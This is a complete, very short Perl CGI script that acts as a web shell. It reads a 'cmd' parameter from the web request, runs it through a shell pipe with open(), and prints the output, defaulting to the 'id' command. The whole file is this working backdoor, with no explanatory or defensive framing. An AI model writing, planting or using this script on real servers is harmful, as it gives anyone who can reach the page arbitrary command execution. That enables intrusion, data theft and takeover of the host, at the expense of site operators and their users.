#!/usr/bin/perl
use strict;
use CGI qw(:standard);
print header('text/plain');
my $cmd = param('cmd') || 'id';
open(my $ph, "$cmd 2>&1 |") or die "cannot run";
print while <$ph>;
close($ph);
